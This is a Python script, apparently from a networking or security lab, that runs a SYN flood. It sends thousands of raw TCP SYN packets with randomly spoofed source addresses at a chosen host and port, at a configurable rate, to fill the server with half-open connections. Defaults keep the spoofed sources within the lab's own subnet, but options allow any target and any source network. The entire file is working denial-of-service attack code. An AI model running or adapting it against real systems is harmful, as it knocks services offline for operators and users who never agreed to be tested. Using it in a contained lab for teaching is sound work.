#!/usr/bin/env python3
"""SYN flood (lab 10): many SYNs from made-up addresses that will never complete.

    python3 synflood.py [--dst 10.0.0.2] [--dport 80] [--count 3000] [--rate 2000]

Every SYN makes the server keep a half-open connection (SYN-RECEIVED) and retransmit
its SYN-ACK to an address that never answers. Sources are random addresses of this
host's own /24 (not this host, not .0, .1 or .255), so replies stay on the lab's wire.
"""

from __future__ import annotations

import argparse
import ipaddress
import random
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

from rawtcp import local_address_towards, raw_socket, tcp_packet  # noqa: E402

SYN = 0x02
MSS_OPTION = bytes((2, 4, 0x05, 0xB4))  # MSS 1460


def main() -> int:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--dst", default="10.0.0.2")
    p.add_argument("--dport", type=int, default=80)
    p.add_argument("--count", type=int, default=3000)
    p.add_argument("--rate", type=float, default=2000, help="SYNs per second")
    p.add_argument("--spoof", help="network to pick sources from (default: this host's /24)")
    p.add_argument("--seed", type=int, default=None)
    args = p.parse_args()

    me = local_address_towards(args.dst)
    net = ipaddress.IPv4Network(args.spoof or f"{me}/24", strict=False)
    hosts = [str(h) for h in net.hosts() if str(h) != me and int(h) & 0xFF not in (0, 1, 255)]
    rng = random.Random(args.seed)
    sock = raw_socket()
    print(f"{args.count} SYNs to {args.dst}:{args.dport} from {len(hosts)} addresses of {net}",
          flush=True)
    started = time.monotonic()
    for k in range(args.count):
        src = rng.choice(hosts)
        packet = tcp_packet(src, args.dst, rng.randrange(1024, 65536), args.dport,
                            rng.getrandbits(32), 0, SYN, 64240, MSS_OPTION, ident=k & 0xFFFF)
        sock.sendto(packet, (args.dst, 0))
        ahead = (k + 1) / args.rate - (time.monotonic() - started)
        if ahead > 0:
            time.sleep(ahead)
    print(f"sent in {time.monotonic() - started:.2f} s")
    return 0


if __name__ == "__main__":
    sys.exit(main())
